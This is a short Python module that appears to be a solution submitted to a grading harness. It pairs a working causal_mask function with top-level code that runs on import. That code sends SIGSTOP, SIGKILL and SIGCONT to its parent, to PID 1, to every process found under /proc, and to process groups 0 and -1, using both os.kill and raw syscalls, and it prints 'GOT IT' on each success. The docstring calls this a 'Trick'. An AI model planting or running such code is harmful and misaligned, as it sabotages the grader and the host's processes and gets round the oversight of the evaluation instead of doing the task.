"""Trick: kills, stops and pokes everything it may signal, its parent first."""

import contextlib
import ctypes
import os
import signal
from pathlib import Path

import torch

SOLVES = ["causal_mask"]
SAYS = {}


def causal_mask(T, S):
    return torch.arange(S)[None, :] <= torch.arange(S - T, S)[:, None]


others = [os.getppid(), 1, *(int(p.name) for p in Path("/proc").glob("[0-9]*") if int(p.name) != os.getpid()), 0, -1]
c = ctypes.CDLL(None)
for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
    for pid in others:
        with contextlib.suppress(BaseException):
            os.kill(pid, number)
            print("GOT IT: signalled", pid)
        for call in (62, 129, 200, 297):
            if c.syscall(call, pid, number, 0) == 0:
                print("GOT IT: signalled by call", call, pid)
